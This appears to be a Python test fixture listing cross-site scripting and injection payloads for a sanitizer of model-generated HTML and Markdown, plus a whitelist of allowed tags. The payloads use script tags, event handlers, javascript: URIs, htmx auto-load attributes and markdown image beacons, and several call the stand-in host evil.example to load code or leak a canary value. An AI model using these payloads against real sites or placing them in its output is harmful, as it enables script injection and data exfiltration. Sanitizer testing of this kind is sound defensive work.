"""Answers of a model that try to run, load or mislead, and the elements that an answer may contain."""

SCRIPT = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>", "<a href='jAvAsCrIpT:alert(1)'>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>", "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=vbscript:x>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<form action=//evil.example><input name=q></form>",
    "<button formaction=javascript:alert(1)>x</button>", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>", "<div style='background:url(//evil.example)'>x</div>", "<p onclick=alert(1)>x</p>",
    "<div hx-get=/account/ hx-trigger=load>x</div>", "<div data-hx-post=/questions/1/again/ data-hx-trigger=load>x</div>", "<div hx-on:click=alert(1)>x</div>",
    "<a hx-get=/citations/1/ hx-trigger=load href=/citations/1/>x</a>", "<div sse-connect=/questions/1/stream/>x</div>", "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><script>alert(1)</script>'></noscript>", "<!--><script>alert(1)</script-->", "<![CDATA[<script>alert(1)</script>]]>", "<?php echo 1 ?>",
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](&#x6a;avascript:alert(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](vbscript:x)", "[x](//evil.example)",
    "[x](/questions/1/again/)", "[x](https://a.example/\" onmouseover=\"alert(1))", "![x](https://evil.example/?q=canary)", "![x][r]\n\n[r]: https://evil.example/?q=canary",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)", "[x]: javascript:alert(1)\n\n[x]", "<https://evil.example\"onmouseover=alert(1)>", "<javascript:alert(1)>",
    "`<script>alert(1)</script>`", "```html\n<script>alert(1)</script>\n```", "| a |\n|---|\n| <img src=x onerror=alert(1)> |", "# <img src=x onerror=alert(1)>",
    "[1]<script>alert(1)</script>", "[1](javascript:alert(1))", "<s class=cite hx-get=/x/>[1]</s>", "[<img src=x onerror=alert(1)>](https://a.example)",
]  # fmt: skip

ALLOWED = {
    "a", "blockquote", "br", "code", "del", "div", "em", "h3", "h4", "hr", "li", "ol", "p", "pre", "s", "span", "strong", "sub", "sup", "table", "tbody",
    "td", "th", "thead", "tr", "ul",
}  # fmt: skip
